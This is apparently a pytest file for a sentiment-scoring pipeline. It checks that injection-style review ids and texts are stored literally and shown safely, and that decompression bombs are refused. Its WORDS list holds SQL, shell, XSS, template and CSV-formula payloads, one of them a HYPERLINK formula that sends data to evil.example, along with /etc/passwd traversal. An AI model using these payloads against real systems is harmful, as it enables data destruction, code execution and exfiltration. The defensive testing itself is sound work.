"""Ids and texts that are SQL, HTML, formulas, commands to a terminal: kept to the letter, and harmless wherever they are shown."""

import csv
import gzip
import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from sqlalchemy import text

from sentiment_core import cli
from sentiment_core.cli.single import _explanation, _predictions
from sentiment_core.cli.sql import draw_csv, draw_json, draw_table
from sentiment_core.errors import printable
from sentiment_core.reviews.layout import incoming_prefix
from sentiment_core.stages.night import score_window
from sentiment_core.stages.services import Services
from sentiment_core.store.analyst import Column, Result

DAY = date(2026, 11, 10)
WORDS = [
    "'; drop table sentiment.scored_reviews; --",
    "$$; delete from sentiment.labels; $$",
    "\\'; select pg_sleep(100); --",
    "%s %(review_id)s {} {0} :review_id ${HOME} $(reboot) `id`",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "{{ 7*7 }}{% raw %}{{ ti.xcom_pull() }}",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "../../etc/passwd",
    "a\u202egnp.exe",
    "\u2067isolated\u2069",
    "null",
    "NaN",
    "\\N",
    '"',
    ",",
    "'",
    "\ufeffbom",
    "\U0001f469\u200d\U0001f52c",
    "e\u0301\u0301\u0301\u0301",
    "\uffff",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def champion(services, trained_model, reader_url, point_commands):
    """Services with a champion, to which the commands of this process lead as well."""
    trained_model(services)
    point_commands(services, SENTIMENT_READER_URL=reader_url)
    return services


def deliver(services, form):
    """Every word as id, text, product, source and language of a review."""
    names = ("review_id", "text", "product_id", "source", "language")
    table = pa.table(dict.fromkeys(names, WORDS))
    if form == "parquet":
        sink = io.BytesIO()
        pq.write_table(table, sink)
        content = sink.getvalue()
    elif form == "jsonl":
        content = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in table.to_pylist()).encode()
    else:
        lines = io.StringIO(newline="")
        csv.writer(lines, quoting=csv.QUOTE_ALL).writerows([names, *([word] * len(names) for word in WORDS)])
        content = lines.getvalue().encode()
    services.bucket.put(f"{incoming_prefix(DAY)}a.{form}", content)


@pytest.mark.parametrize("form", ["parquet", "jsonl", "csv"])
def test_words_are_stored_to_the_letter_and_nothing_happens(champion, form, capsys):
    deliver(champion, form)
    outcome = score_window(champion, DAY)
    assert (outcome["n_scored"], outcome["n_quarantined"]) == (len(WORDS), 0)
    with champion.engine.connect() as connection:
        rows = connection.execute(text("select review_id, product_id, source, text_excerpt from sentiment.scored_reviews")).all()
    assert {tuple(row) for row in rows} == {(word,) * 4 for word in WORDS}
    query = "select review_id, product_id, p_positive - 1 as n from sentiment.scored_reviews order by 1"
    capsys.readouterr()
    assert cli.run(["sql", "--json", "-c", query]) == 0
    assert {row["review_id"] for row in json.loads(capsys.readouterr().out)} == set(WORDS)
    assert cli.run(["sql", "--csv", "-c", query]) == 0
    told = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))[1:]
    assert not [row for row in told if row[0].startswith(FORMULA) or row[1].startswith(FORMULA)]
    assert {row[0].removeprefix("'") if row[0][1:].startswith(FORMULA) else row[0] for row in told} == set(WORDS)
    assert all(float(row[2]) <= 0 for row in told), "a number stays one"
    assert cli.run(["sql", "-c", query]) == 0
    table = capsys.readouterr().out
    assert printable(table) == table
    for word in WORDS[4:13:4] if form == "jsonl" else ():
        assert cli.run(["explain", "--", word]) == 0
        shown = capsys.readouterr().out
        assert printable(shown) == shown


def test_a_bomb_in_the_folder_is_refused_with_its_reason_and_the_rest_of_the_night_is_scored(champion, tmp_path):
    """Under a policy by which a megabyte may be unpacked of anything: what the delivered one allows takes its time to read."""
    delivered = champion.settings.policy_path.read_text(encoding="utf-8")
    policy = delivered.replace("free_bytes = 67_108_864 ", "free_bytes = 1_048_576 ")
    assert policy != delivered
    (tmp_path / "policy.toml").write_text(policy, encoding="utf-8")
    champion = Services(replace(champion.settings, policy_path=tmp_path / "policy.toml"))
    bomb, table_bomb = gzip.compress(bytes(20 << 20)), gzip.compress(b"review_id,text\n" + b"\n" * (20 << 20))
    table = pa.table({"review_id": pa.nulls(200_000, pa.string()), "text": pa.nulls(200_000, pa.string())})
    pq.write_table(table, nulls := io.BytesIO())
    for name, content in (("bomb.jsonl.gz", bomb), ("bomb.csv.gz", table_bomb), ("nulls.parquet", nulls.getvalue())):
        champion.bucket.put(f"{incoming_prefix(DAY)}{name}", content)
    deliver(champion, "jsonl")
    outcome = score_window(champion, DAY)
    assert (outcome["n_objects"], outcome["n_failed"], outcome["n_scored"], outcome["n_quarantined"]) == (4, 3, len(WORDS), 0)
    with champion.engine.connect() as connection:
        query = "select split_part(key, '/', 3), reason from sentiment.source_objects where status = 'failed'"
        failed = dict(map(tuple, connection.execute(text(query))))
    assert failed.keys() == {"bomb.jsonl.gz", "bomb.csv.gz", "nulls.parquet"}
    assert all("200 times as many bytes unpacked as delivered" in reason for reason in failed.values())
    assert not list(champion.bucket.list("quarantine/"))
    champion.engine.dispose()


def test_a_scored_file_keeps_ids_as_they_came_and_quotes_every_one(champion, tmp_path):
    source, target = tmp_path / "in.parquet", tmp_path / "out.csv"
    pq.write_table(pa.table({"review_id": WORDS, "text": WORDS}), source)
    assert cli.run(["score-file", str(source), str(target)]) == 0
    with target.open(encoding="utf-8", newline="") as lines:
        assert [row["review_id"] for row in csv.DictReader(lines)] == WORDS
    first_cells = [line.split(b",")[0] for line in target.read_bytes().splitlines()[1:]]
    assert all(cell.startswith(b'"') for cell in first_cells)


anything = st.text(max_size=30)


@settings(deadline=None)
@given(value=anything | st.sampled_from(WORDS), name=anything)
def test_whatever_a_result_holds_a_terminal_only_shows_it(value, name):
    result = Result(columns=(Column(name=name, oid=25),), rows=[(value,), (None,)], status="SELECT 2")
    table = draw_table(result)
    assert printable(table) == table
    cells = list(csv.reader(io.StringIO(draw_csv(result), newline="")))
    cell = cells[1][0] if cells[1] else ""
    assert len(cells) == 3
    assert cells[0] in ([name], [])
    assert not cell.startswith(FORMULA)
    assert cell in (value, f"'{value}")
    assert json.loads(draw_json(result))[0][name] == value


@settings(deadline=None)
@given(words=st.text(min_size=1, max_size=60))
def test_whatever_a_review_says_its_explanation_only_shows_it(words):
    console = Console(file=io.StringIO(), force_terminal=False, width=100)
    score = {"label": "positive", "p_negative": 0.1, "p_neutral": None, "p_positive": 0.9}
    explanation = {
        "decisive": "positive", "scores": {"positive": 1.0}, "intercepts": {"positive": 0.0}, "offsets": {"positive": 0.0},
        "terms": [{"kind": "words", "term": "x", "written": "x", "count": 1, "contributions": {"positive": 1.0}}],
    }  # fmt: skip
    result = {
        "review": {"review_id": words, "review_date": DAY, "product_id": words, "source": words, "text": words},
        "score": score, "explanation": explanation,
        "model": {"version": 1, "name": "sentiment", "snapshot": None},
        "object": {"url": f"s3://b/{words}", "row_number": 0, "object_id": 1},
        "run": {"run_id": "r", "scored_at": datetime.now(UTC) - timedelta(days=1)},
    }  # fmt: skip
    console.print(_explanation(result, 12))
    predicted = {"label": "positive", "scores": {"positive": 0.9, "negative": 0.1}, "text": words}
    console.print(_predictions([predicted], 100))
    shown = console.file.getvalue()
    assert printable(shown) == shown
